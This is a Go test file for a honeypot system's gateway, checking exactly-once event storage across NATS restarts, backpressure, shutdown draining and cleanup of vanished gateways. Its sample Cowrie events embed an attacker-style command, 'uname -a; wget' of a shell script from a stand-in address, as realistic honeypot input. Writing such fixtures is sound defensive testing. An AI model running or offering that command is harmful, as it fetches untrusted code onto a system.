package gateway

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"testing"
	"time"

	"github.com/honeybee/core/proto"
	"github.com/honeybee/core/proto/bus"
)

// sendNumbered sends PotEvents numbered from..to-1 in their data.
func sendNumbered(n *testNode, from, to int) {
	n.t.Helper()
	for i := from; i < to; i++ {
		n.send(&proto.PotEvent{NodeID: n.id, PotID: "cowrie-01", PotType: "cowrie", EventType: "cowrie.command.input",
			Timestamp: time.Now().UTC(), Data: json.RawMessage(fmt.Sprintf(`{"n":%d,"input":"uname -a; wget http://203.0.113.50/x.sh"}`, i))})
	}
}

// checkExactlyOnce verifies the node's stored events are numbered 0..want-1,
// each exactly once, with distinct event ids.
func checkExactlyOnce(t *testing.T, tg *testGateway, id uint64, want int) {
	t.Helper()
	var events []storedEvent
	eventually(t, fmt.Sprintf("%d events stored", want), func() bool {
		events = tg.nodeEvents(t, id)
		return len(events) >= want
	})
	ids := map[string]bool{}
	nums := map[int]int{}
	for _, e := range events {
		if ids[e.Event.EventID] {
			t.Errorf("event id %s stored twice", e.Event.EventID)
		}
		ids[e.Event.EventID] = true
		var d struct {
			N int `json:"n"`
		}
		_ = json.Unmarshal(e.Event.Data, &d)
		nums[d.N]++
	}
	for i := range want {
		if nums[i] != 1 {
			t.Errorf("event %d stored %d times", i, nums[i])
		}
	}
	if len(events) != want {
		t.Errorf("%d events stored, want %d", len(events), want)
	}
}

// TestNATSRestart: NATS stops and comes back (same port and store) while a
// node keeps sending; the node stays connected and every event ends up in
// the stream exactly once.
func TestNATSRestart(t *testing.T) {
	ns := startNATS(t)
	tg := startGateway(t, ns)
	n := dialNode(t, tg.Addr().String())
	n.register(50, "durable")
	tg.waitNode(t, 50, "connected", func(r bus.NodeRecord) bool { return r.Connected })

	sendNumbered(n, 0, 100)
	ns.stop()
	sendNumbered(n, 100, 200) // while NATS is down
	n.status(proto.NodeDeploying)
	eventually(t, "gateway notices the outage", func() bool { return tg.metric(t, "honeybee_gateway_nats_connected") == 0 })
	if code := tg.readyz(); code != http.StatusServiceUnavailable {
		t.Errorf("/readyz = %d during the outage, want 503", code)
	}
	sendNumbered(n, 200, 250)
	ns.start(t)

	checkExactlyOnce(t, tg, 50, 250)
	rec := tg.waitNode(t, 50, "status written after the outage", func(r bus.NodeRecord) bool { return r.Status == proto.NodeDeploying })
	if !rec.Connected {
		t.Errorf("node recorded disconnected: %+v", rec)
	}
	// The same socket still works both ways.
	n.status(proto.NodeRunning)
	tg.waitNode(t, 50, "running", func(r bus.NodeRecord) bool { return r.Status == proto.NodeRunning })
	eventually(t, "gateway ready again", func() bool { return tg.readyz() == http.StatusOK })
	reply, err := tg.request(50, bus.CommandRequest{CommandID: "after-outage", Command: json.RawMessage(`{"GetInstalledPots":{}}`)})
	if err != nil {
		t.Fatal(err)
	}
	if c := n.command(); c.Command.Kind != proto.CmdGetInstalledPots {
		t.Errorf("command %+v (reply %s)", c, reply.Data)
	}
	if got := tg.metric(t, "honeybee_gateway_unacked_bytes"); got != 0 {
		t.Errorf("unacked bytes %v after everything was stored", got)
	}
}

// TestBackpressure: with a tiny window and JetStream unable to store, the
// gateway stops reading the node (a later status message stays unread)
// instead of buffering or dropping; once the stream is back everything is
// stored and read.
func TestBackpressure(t *testing.T) {
	ns := startNATS(t)
	tg := startGateway(t, ns, func(c *Config) {
		c.MaxMessageSize = 1024
		c.MaxUnackedBytes = 4096
	})
	n := dialNode(t, tg.Addr().String())
	n.register(60, "flood")
	n.status(proto.NodeRunning)
	tg.waitNode(t, 60, "running", func(r bus.NodeRecord) bool { return r.Status == proto.NodeRunning })

	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := tg.js.DeleteStream(ctx, tg.c.EventsStream()); err != nil {
		t.Fatal(err)
	}
	sendNumbered(n, 0, 40) // about 300 bytes each: 3 times the window
	n.status(proto.NodeStopped)

	eventually(t, "the session blocked on the full window", func() bool {
		return tg.metric(t, "honeybee_gateway_backpressured_sessions") == 1
	})
	if used := tg.metric(t, "honeybee_gateway_unacked_bytes"); used < 3000 || used > 4096 {
		t.Errorf("unacked bytes %v, want the window nearly full and never over 4096", used)
	}
	// The status update behind the blocked events has not been read.
	if rec, _ := tg.nodeRecord(t, 60); rec.Status != proto.NodeRunning {
		t.Errorf("status %s read while the session should be blocked", rec.Status)
	}

	if _, err := tg.ensure(ctx, tg.js); err != nil {
		t.Fatal(err)
	}
	checkExactlyOnce(t, tg, 60, 40)
	tg.waitNode(t, 60, "status read after the backlog", func(r bus.NodeRecord) bool { return r.Status == proto.NodeStopped })
	eventually(t, "window empty", func() bool {
		return tg.metric(t, "honeybee_gateway_unacked_bytes") == 0 && tg.metric(t, "honeybee_gateway_backpressured_sessions") == 0
	})
	if s := tg.metric(t, "honeybee_gateway_backpressure_seconds_total"); s <= 0 {
		t.Errorf("time in backpressure not counted: %v", s)
	}
	if d := tg.metric(t, `honeybee_gateway_dropped_total{reason="publish_rejected"}`); d != 0 {
		t.Errorf("%v events dropped", d)
	}
}

// TestDrain: cancelling Run (SIGTERM) stops accepting, refuses a pending
// registration, stores every event already read, records held nodes
// disconnected with reason shutdown, closes sockets and returns nil.
func TestDrain(t *testing.T) {
	ns := startNATS(t)
	tg := startGateway(t, ns)
	lc := tg.watchLifecycle(t)
	n := dialNode(t, tg.Addr().String())
	n.register(70, "draining")
	sendNumbered(n, 0, 50)
	pending := dialNode(t, tg.Addr().String())
	eventually(t, "both connections accepted", func() bool { return tg.metric(t, "honeybee_gateway_connections") == 2 })
	// While running, the gateway heartbeats in the gateways bucket.
	hctx, hcancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer hcancel()
	e, err := tg.kv(t, tg.c.GatewaysBucket()).Get(hctx, tg.cfg.GatewayID)
	if err != nil {
		t.Fatalf("no heartbeat: %v", err)
	}
	var hb bus.GatewayRecord
	if err := json.Unmarshal(e.Value(), &hb); err != nil || hb.GatewayID != tg.cfg.GatewayID || hb.Heartbeat.IsZero() {
		t.Errorf("heartbeat %s: %v", e.Value(), err)
	}

	if err := tg.stop(t); err != nil {
		t.Fatalf("Run = %v, want nil after a drain", err)
	}
	checkExactlyOnce(t, tg, 70, 50)
	rec, _ := tg.nodeRecord(t, 70)
	if rec.Connected || rec.DisconnectReason != bus.ReasonShutdown {
		t.Errorf("record after drain %+v, want disconnected: shutdown", rec)
	}
	eventually(t, "disconnected lifecycle", func() bool {
		d := lc.of(70, bus.LifecycleDisconnected)
		return len(d) == 1 && d[0].Reason == bus.ReasonShutdown
	})
	if !n.closed() {
		t.Error("node socket not closed")
	}
	if ack := pending.ack(); ack.Accepted || ack.Message != "gateway is shutting down, reconnect later" {
		t.Errorf("pending connection got %+v", ack)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if _, err := tg.kv(t, tg.c.GatewaysBucket()).Get(ctx, tg.cfg.GatewayID); err == nil {
		t.Error("gateway heartbeat still present after the drain")
	}
}

// TestSweepVanishedGateway: node records held by a gateway whose heartbeat
// vanished are marked disconnected with reason gateway_lost; records of a
// live gateway are left alone.
func TestSweepVanishedGateway(t *testing.T) {
	ns := startNATS(t)
	// A first gateway creates the buckets; stop it at once.
	first := startGateway(t, ns, func(c *Config) { c.GatewayID = "gw-setup" })
	if err := first.stop(t); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	nodes := first.kv(t, first.c.NodesBucket())
	gateways := first.kv(t, first.c.GatewaysBucket())
	put := func(id uint64, gw string) {
		rec := bus.NodeRecord{NodeID: id, NodeIDStr: proto.FormatNodeID(id), NodeName: "n", NodeType: proto.NodeTypeFull,
			Status: proto.NodeRunning, Connected: true, GatewayID: gw, ConnectedSince: time.Now().UTC()}
		b, _ := json.Marshal(rec)
		if _, err := nodes.Put(ctx, bus.NodeKey(id), b); err != nil {
			t.Fatal(err)
		}
	}
	heartbeat := func(gw string) {
		b, _ := json.Marshal(bus.GatewayRecord{GatewayID: gw, Heartbeat: time.Now().UTC()})
		if _, err := gateways.Put(ctx, gw, b); err != nil {
			t.Fatal(err)
		}
	}
	put(1, "gw-dead")    // its gateway never beats: swept at start
	put(2, "gw-dying")   // beats now, stops later
	put(3, "gw-alive")   // keeps beating
	put(4, "gw-sweeper") // this gateway's own stale record from a previous run
	heartbeat("gw-dying")
	heartbeat("gw-alive")

	cfg := testConfig(ns.ClientURL())
	cfg.GatewayID = "gw-sweeper"
	g, err := New(cfg, testLogger(t))
	if err != nil {
		t.Fatal(err)
	}
	g.sweepEvery = 100 * time.Millisecond
	tg := runGateway(t, g, cfg)
	lost := func(r bus.NodeRecord) bool { return !r.Connected && r.DisconnectReason == bus.ReasonGatewayLost }
	tg.waitNode(t, 1, "swept at start", lost)
	tg.waitNode(t, 4, "own stale record swept at start", lost)
	if err := gateways.Delete(ctx, "gw-dying"); err != nil {
		t.Fatal(err)
	}
	tg.waitNode(t, 2, "swept after its heartbeat vanished", lost)
	heartbeat("gw-alive")
	if rec, _ := tg.nodeRecord(t, 3); !rec.Connected {
		t.Errorf("node of a live gateway swept: %+v", rec)
	}
}
